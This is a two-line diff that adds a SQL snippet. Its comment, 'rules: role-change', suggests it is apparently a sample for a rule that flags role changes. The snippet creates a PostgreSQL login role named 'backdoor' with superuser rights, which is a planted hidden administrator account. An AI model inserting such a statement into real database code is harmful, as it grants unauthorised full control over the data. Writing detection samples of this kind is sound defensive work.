@@ -1,0 +1,2 @@
+-- rules: role-change
+DO $$ BEGIN EXECUTE 'CREATE ROLE backdoor LOGIN SUPERUSER'; END $$;
